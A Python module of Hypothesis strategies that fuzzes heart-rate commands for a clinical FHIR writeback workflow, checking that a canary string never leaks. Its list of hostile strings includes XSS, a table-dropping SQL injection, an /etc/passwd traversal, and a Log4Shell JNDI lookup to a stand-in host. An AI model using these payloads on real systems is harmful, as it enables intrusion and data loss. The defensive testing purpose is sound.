"""Hostile heart-rate commands for the end-to-end property test (hypothesis strategies).

A case starts from a valid heart-rate command and applies one to three mutations: a value
replaced by a hostile one (odd or huge strings, extreme numbers, wrong types, deep nesting), an
element added under a hostile name, an element removed. It is sent either through
WritebackClient (which may refuse it) or by hand, as another tool would: the JSON text (maybe
cut short) or another encoding, as the only argument of a ``ClinicalWrite`` start.

Strings that could leak carry CANARY, which is no token, no element name and no FHIR value: it
must never show up in a reason, a transition or the worker's log.
"""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime, timedelta
from typing import Any, Literal

from hypothesis import strategies as st
from temporalio.api.common.v1 import Payload
from temporalio.common import RawValue

from workers import samples
from workflows.input_limits import MAX_DEPTH, MAX_STRING_CHARS

CANARY = "Zq CANARY~7 Jane Doe"
#: One reading time for every case (a clinical rule refuses times in the future).
TAKEN_AT = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)

Route = Literal["client", "by_hand"]


class Case:
    """One hostile command and how it travels (a plain class: its repr stays short)."""

    def __init__(self, route: Route) -> None:
        self.route = route
        self.body = base_body()
        self.mutations: list[str] = []  # what was done, without the values
        #: by hand only: how the argument travels ("json", "cut" JSON text, "binary", "none")
        self.form = "json"
        self.cut = 1.0

    def __repr__(self) -> str:  # a failure report names the mutations, not megabytes of values
        size = len(json.dumps(self.body, ensure_ascii=False, default=str))
        return f"Case({self.route}, {self.form}, {self.mutations}, ~{size} chars)"

    def argument(self, key: str) -> list[Any]:
        """The start's arguments for the by-hand route, with the command's idempotency key."""
        body = (
            {**self.body, "idempotency_key": key} if "idempotency_key" in self.body else self.body
        )
        text = json.dumps(body, ensure_ascii=False).encode(errors="surrogatepass")
        if self.form == "none":
            return []
        if self.form == "binary":
            return [RawValue(Payload(metadata={"encoding": b"binary/plain"}, data=text))]
        if self.form == "cut":
            text = text[: int(len(text) * self.cut)]
        return [RawValue(Payload(metadata={"encoding": b"json/plain"}, data=text))]

    def strings(self) -> set[str]:
        """The hostile strings the mutations brought, long enough to recognise in a reason."""
        return _strings(self.body) - _strings(base_body())


def _strings(body: dict[str, Any]) -> set[str]:
    found: set[str] = set()
    stack: list[Any] = [body]
    while stack:
        node = stack.pop()
        if isinstance(node, str) and len(node) >= 12:
            found.add(node[:200])
        elif isinstance(node, dict):
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    return found


def base_body() -> dict[str, Any]:
    return {
        "tenant": "demo-r4",
        "idempotency_key": "replaced-per-run",
        # a copy: the sample shares its category and coding dicts between calls
        "resource": copy.deepcopy(samples.heart_rate("fuzz", 72, TAKEN_AT)),
        "reconcile": False,
    }


NASTY = [
    "",
    " ",
    "\x00",
    "\u0000\u001f\u007f",
    "null",
    "NaN",
    "-0",
    "1e400",
    "<script>alert(1)</script>",
    "'; DROP TABLE observations;--",
    "../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
    "\u202ereversed",
    "\ufeffbom",
    "\r\n\t",
    "Patient/../Observation/1",
    '{"resourceType":"Patient"}',
    "%s%n%x%d",
    "\U0001d573\U0001d58a\U0001d586\U0001d597\U0001d599 \U0001fac0 \u2764\ufe0f\u200d\U0001f525",
    "\u03a9\u2248\u00e7\u221a\u222b\u02dc\u00b5\u2264\u2265\u00f7",
]


def _long(unit: str, length: int) -> str:
    return (unit * (length // len(unit) + 1))[:length]


hostile_strings = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=30).map(lambda text: f"{text}{CANARY}{text[::-1]}"),
    st.builds(
        _long,
        st.sampled_from([CANARY, "é", "🫀", "\\", '"', "\u2028"]),
        st.one_of(
            st.integers(1, 1000),
            st.sampled_from([MAX_STRING_CHARS, MAX_STRING_CHARS + 1, 1_048_576]),
            st.integers(1, 3 * MAX_STRING_CHARS),
        ),
    ),
)
hostile_numbers = st.one_of(
    st.integers(-(10**30), 10**30),
    st.sampled_from([2**63, -(2**63) - 1, 2**64, 10**400, -(10**400)]),
    st.floats(),  # NaN and the infinities too
)
wrong_types = st.one_of(
    st.none(), st.booleans(), st.just([]), st.just({}), st.lists(st.integers(), max_size=3)
)
hostile_names = st.one_of(
    st.text(max_size=12),
    st.just(CANARY),
    st.sampled_from(["resourceType", "id", "__proto__", "constructor", "_value", "value[x]"]),
    st.builds(_long, st.just("k"), st.integers(60, 300)),
)


def _nested(levels: int, leaf: Any, as_list: bool) -> Any:
    value = leaf
    for level in range(levels):
        value = [value] if as_list or level % 2 else {"extension": value}
    return value


nestings = st.builds(
    _nested,
    st.one_of(st.integers(1, MAX_DEPTH + 8), st.integers(MAX_DEPTH, 300)),
    st.one_of(hostile_strings, st.just({"url": CANARY})),
    st.booleans(),
)
hostile_values = st.one_of(
    hostile_strings,
    hostile_numbers,
    wrong_types,
    nestings,
    st.dictionaries(hostile_names, hostile_strings, max_size=3),
    st.lists(hostile_strings, max_size=3),
)


def _places(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a value inside ``node`` (the places a mutation can act on)."""
    found = [path] if path else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _places(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _places(value, (*path, index))
    return found


def _parent(body: dict[str, Any], path: tuple[Any, ...]) -> Any:
    node: Any = body
    for part in path[:-1]:
        node = node[part]
    return node


@st.composite
def hostile_cases(draw: st.DrawFn) -> Case:
    case = Case(draw(st.sampled_from(["client", "by_hand"])))
    for _ in range(draw(st.integers(1, 3))):
        places = [p for p in _places(case.body) if p[0] != "idempotency_key"]
        # mostly inside the resource, sometimes the command itself
        inside = [p for p in places if p[0] == "resource" and len(p) > 1]
        if not places:
            break
        path = draw(st.sampled_from(inside if inside and draw(st.integers(0, 4)) else places))
        parent = _parent(case.body, path)
        kind = draw(st.sampled_from(["replace", "replace", "add", "remove"]))
        where = ".".join(str(part) for part in path)
        if kind == "replace":
            parent[path[-1]] = draw(hostile_values)
        elif kind == "add" and isinstance(parent, dict):
            parent[draw(hostile_names)] = draw(hostile_values)
        elif kind == "add" and isinstance(parent, list):
            parent.append(draw(hostile_values))
        else:
            del parent[path[-1]]
        case.mutations.append(f"{kind} at {where}")
    if case.route == "by_hand":
        case.form = draw(st.sampled_from(["json"] * 6 + ["cut", "binary", "none"]))
        case.cut = draw(st.floats(0.0, 0.99))
    return case
